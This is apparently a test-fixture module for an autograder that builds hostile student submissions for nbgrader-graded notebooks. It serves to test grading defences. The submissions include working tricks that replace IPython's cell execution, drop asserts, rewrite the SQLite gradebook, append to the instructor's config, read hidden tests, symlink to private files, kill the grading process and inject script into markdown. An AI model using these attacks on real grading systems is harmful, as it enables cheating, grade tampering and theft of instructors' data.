"""What students may hand in to harm or cheat an instructor who grades with nbgrader; each is made of the released notebook.

Where nothing stands in its way each succeeds (`tests.grader.nbgrader_attacks.stock`), but for those that are aimed at our path
alone. They run by the grader or in a throw-away box, nowhere else. Paths are below the course; every process ends by itself.
"""

from __future__ import annotations

import copy
import json
import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import dedent, indent
from typing import Any

from grader.nbgrader.names import notebook_file, solution_cell

EXERCISE = "a1_hello_wsgi"
SOLUTION = solution_cell("app")
FIRST, LAST = "aaa_wrong", "zzz_right"
"""Students who attack nothing: one with the app that every attack has, one with the right one. They are graded first and last."""
LOOT = "loot-"
"""Files in the course that begin like this were written by an attack."""
NAP = f"1800.{os.getpid():08}"
"""Seconds for which a process of an attack sleeps: by this it is known, and told from those of another run of the tests."""
COUNT = 30
PRIVATE_FILE, PRIVATE = "private.txt", "what the instructor wrote about students"
"""A file in the course, and what stands in it."""
SCRIPT = "<script>document.title='taken over'</script>"
HERE = "../../.."
"""The course, seen from where a notebook is run."""

WRONG = """
def application(environ, start_response):
    body = b"" if environ["REQUEST_METHOD"] == "HEAD" else b"hello\\n"
    start_response("200 OK", [("Content-Type", "text/plain; charset=utf-8"), ("Content-Length", "6")])
    return [body]


def app_generator(environ, start_response):
    yield from application(environ, start_response)


class AppClass:
    def __init__(self, environ, start_response):
        self.chunks = application(environ, start_response)

    def __iter__(self):
        return iter(self.chunks)


class Greeting:
    def __call__(self, environ, start_response):
        return application(environ, start_response)


app_instance = Greeting()
"""
"""Another text than it should be: worth something to us, and nothing where one wrong answer is a wrong cell."""

Notebook = dict[str, Any]


def nothing(_notebook: Notebook) -> None:
    """Change nothing."""


@dataclass(frozen=True)
class Attack:
    """What one student hands in: the text of the solution cell, changes of the notebook, files and links beside it.

    ``wants`` says what it is after (`tests.grader.nbgrader_attacks.look.LOOKS`). One that is ``alone`` ends the whole command
    where it succeeds. ``stock`` is false where the stock path gives it no chance: it is aimed at ours.
    """

    name: str
    wants: str
    about: str
    code: str = ""
    change: Callable[[Notebook], None] = nothing
    beside: Mapping[str, str] = field(default_factory=dict)
    links: Mapping[str, str] = field(default_factory=dict)
    alone: bool = False
    stock: bool = True

    @property
    def module(self) -> str:
        """What stands in the solution cell: a wrong app, and the attack, after which the app is still there."""
        if not self.code:
            return WRONG
        tried = indent(dedent(self.code).strip(), "    ")
        return f"{WRONG}\ntry:\n{tried}\nexcept Exception:\n    pass  # where there is no IPython, for example\n"


def graded(notebook: Notebook) -> list[dict[str, Any]]:
    """Return the cells that hold points."""
    return [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade")]


# -- what is changed in a notebook


def skip_by_tag(notebook: Notebook) -> None:
    """Have no test run: a cell without an output has full marks."""
    for cell in graded(notebook):
        cell["metadata"]["tags"] = ["skip-execution"]


def script(notebook: Notebook) -> None:
    """Put a script before the statement."""
    said = f"Dear grader, {SCRIPT} <img src=x onerror=\"document.title='taken over'\">"
    notebook["cells"].insert(0, {"cell_type": "markdown", "id": "hello", "metadata": {}, "source": said})


def copied(notebook: Notebook) -> None:
    """Copy a cell with points, as somebody may do by accident."""
    notebook["cells"].append({**copy.deepcopy(graded(notebook)[0]), "id": "copied"})


def old_schema(notebook: Notebook) -> None:
    """Say that the cells are from an old nbgrader."""
    for cell in notebook["cells"]:
        cell["metadata"].get("nbgrader", {}).update(schema_version=1)


def forged(notebook: Notebook) -> None:
    """Put the result into the cells, and more points than there are."""
    for cell in graded(notebook):
        cell["metadata"]["nbgrader"]["points"] = 1000
        result = {
            "data": {"text/plain": "1000.0"},
            "execution_count": 1,
            "metadata": {},
            "output_type": "execute_result",
        }
        cell["outputs"] = [result]


def renamed(notebook: Notebook) -> None:
    """Make of the solution cell one with points, and of the cells with points solutions."""
    for cell in notebook["cells"]:
        about = cell["metadata"].get("nbgrader", {})
        if about.get("grade"):
            about.update(grade=False, solution=True, locked=False)
        elif about.get("solution"):
            about.update(grade=True, solution=True, points=100)


# -- what is done when it runs

INSTEAD = """
    shell = get_ipython()
    real = shell.run_cell
    shell.should_run_async = lambda *args, **kwargs: False
    shell.run_cell = lambda code, *args, **kwargs: real({result!r}, *args, **kwargs)
"""
RUN_SOLUTION = f"""
    import glob, json
    for path in glob.glob({{pattern!r}}):
        for cell in json.load(open(path))["cells"]:
            if cell["metadata"].get("nbgrader", {{{{}}}}).get("grade_id") == {SOLUTION!r}:
                exec("".join(cell["source"]), globals())
"""
OWN_GRADES = """
    import os, sqlite3
    connection = sqlite3.connect({database!r}, timeout=20)
    connection.execute(
        "UPDATE grade SET {change} WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n "
        "JOIN submitted_assignment a ON a.id = n.assignment_id WHERE a.student_id = ?)", [{student}])
    connection.commit()
    connection.close()
"""
ME = "os.path.basename(os.path.dirname(os.getcwd()))"
FULL = "manual_score = (SELECT max_score FROM grade_cells WHERE id = cell_id), needs_manual_grade = 0"


def instead(result: str) -> str:
    """Return code that has every later cell be another one."""
    return INSTEAD.format(result=result)


def run_solution(pattern: str) -> str:
    """Return code that executes the solution in other notebooks."""
    return RUN_SOLUTION.format(pattern=pattern)


def set_grades(change: str, student: str) -> str:
    """Return code that changes a student's grades."""
    return OWN_GRADES.format(database=f"{HERE}/gradebook.db", change=change, student=student)


ATTACKS = (
    Attack("tag_skip_execution", "points", "a tag has no test run, and no output is full marks", change=skip_by_tag),
    Attack("drops_asserts", "points", "rewrites what later cells mean", """
        import ast
        class Drop(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.copy_location(ast.Pass(), node)
        get_ipython().ast_transformers.append(Drop())
    """),
    Attack("replaces_run_cell", "points", "no later cell does anything", instead("pass")),
    Attack("reports_nan", "points", "no number is full marks", instead("float('nan')")),
    Attack("reports_minus_one", "points", "less than nothing is full marks", instead("-1")),
    Attack("reports_true", "points", "a word is full marks", instead("True")),
    Attack("runs_the_source", "points", "executes the instructor's solution", run_solution(f"{HERE}/source/*/*.ipynb")),
    Attack("runs_its_neighbour", "points", "executes another student's solution",
           run_solution(f"{HERE}/submitted/{LAST}/*/*.ipynb")),
    Attack("gives_itself_points", "points", "writes to the gradebook", set_grades(FULL, ME)),
    Attack("takes_points_away", "tampering", "writes another student's grades",
           set_grades("extra_credit = -1.0", repr(FIRST))),
    Attack("changes_the_configuration", "tampering", "adds a line that nbgrader executes", f"""
        with open({HERE + "/nbgrader_config.py"!r}, "a") as file:
            file.write("# {LOOT}\\n")
    """),
    Attack("reads_its_notebook", "loot", "the notebook on the disk has the hidden tests", f"""
        import glob
        text = "".join(open(path).read() for path in glob.glob("*.ipynb"))
        open({HERE + "/" + LOOT + "reads_its_notebook"!r}, "w").write(text)
    """),
    Attack("reads_what_was_run", "loot", "the kernel keeps the text of every cell", f"""
        shell = get_ipython()
        def keep(result):
            open({HERE + "/" + LOOT + "reads_what_was_run"!r}, "w").write("\\n".join(shell.user_ns["In"]))
        shell.events.register("post_run_cell", keep)
    """),
    Attack("reads_its_feedback", "feedback", "does nothing, and reads what it is told"),
    Attack("links_to_a_file", "copies", "what a link means is copied into its feedback",
           links={"notes.txt": f"{HERE}/{PRIVATE_FILE}"}),
    Attack("leaves_processes", "survivors", "processes that outlive the kernel", f"""
        import subprocess
        for _ in range({COUNT}):
            subprocess.Popen(["sleep", {NAP!r}], start_new_session=True)
    """),
    Attack("script_in_markdown", "markup", "a script for the instructor's browser", change=script),
    Attack("kills_the_parent", "batch", "ends the process that grades", """
        import os, signal
        os.kill(os.getppid(), signal.SIGKILL)
    """, alone=True),
    Attack("copied_cell", "batch", "two cells with one id", change=copied, alone=True),
    Attack("old_schema", "batch", "cells of an old nbgrader", change=old_schema, alone=True),
    Attack("forged_outputs", "points", "results and points in the notebook that was handed in", change=forged, stock=False),
    Attack("swapped_roles", "points", "solutions say that they are tests", change=renamed, stock=False),
    Attack("own_settings", "loot", "files that some tool might execute", stock=False, beside=dict.fromkeys(
        ("nbgrader_config.py", "conftest.py", "sitecustomize.py", "nbgrader.py", "grader.py"),
        f"import os\nopen(os.path.join(os.environ.get('COURSE', '.'), {LOOT + 'own_settings'!r}), 'w').write('ran')\n",
    ) | {"nbgrader_config.json": "{}", "release": "no folder",
        "grader.toml": 'course = "/"\nlanguage = "en"\nstyle = "files"\nmin_isolation = "none"\n'}),
)  # fmt: skip


def hand_in(course: Path, attack: Attack | None, student: str, module: str = "") -> None:
    """Hand in what an attack does, or the module of an honest student, made of the released notebook."""
    released = course / "release" / EXERCISE / notebook_file(EXERCISE)
    notebook = json.loads(released.read_text(encoding="utf-8"))
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == SOLUTION:
            cell["source"] = attack.module if attack else module
    folder = course / "submitted" / student / EXERCISE
    folder.mkdir(parents=True)
    if attack:
        attack.change(notebook)
        for name, text in attack.beside.items():
            (folder / name).write_text(text, encoding="utf-8")
        for name, target in attack.links.items():
            (folder / name).symlink_to(target)
    (folder / released.name).write_text(json.dumps(notebook, ensure_ascii=False), encoding="utf-8")
    (folder / "timestamp.txt").write_text("2026-10-01 12:00:00 UTC", encoding="utf-8")


def hand_in_all(course: Path, attacks: tuple[Attack, ...], right: str) -> None:
    """Hand in all attacks, each by a student of its name, and the work of two honest students."""
    (course / PRIVATE_FILE).write_text(PRIVATE, encoding="utf-8")
    hand_in(course, None, FIRST, WRONG)
    for attack in attacks:
        hand_in(course, attack, attack.name)
    hand_in(course, None, LAST, right)
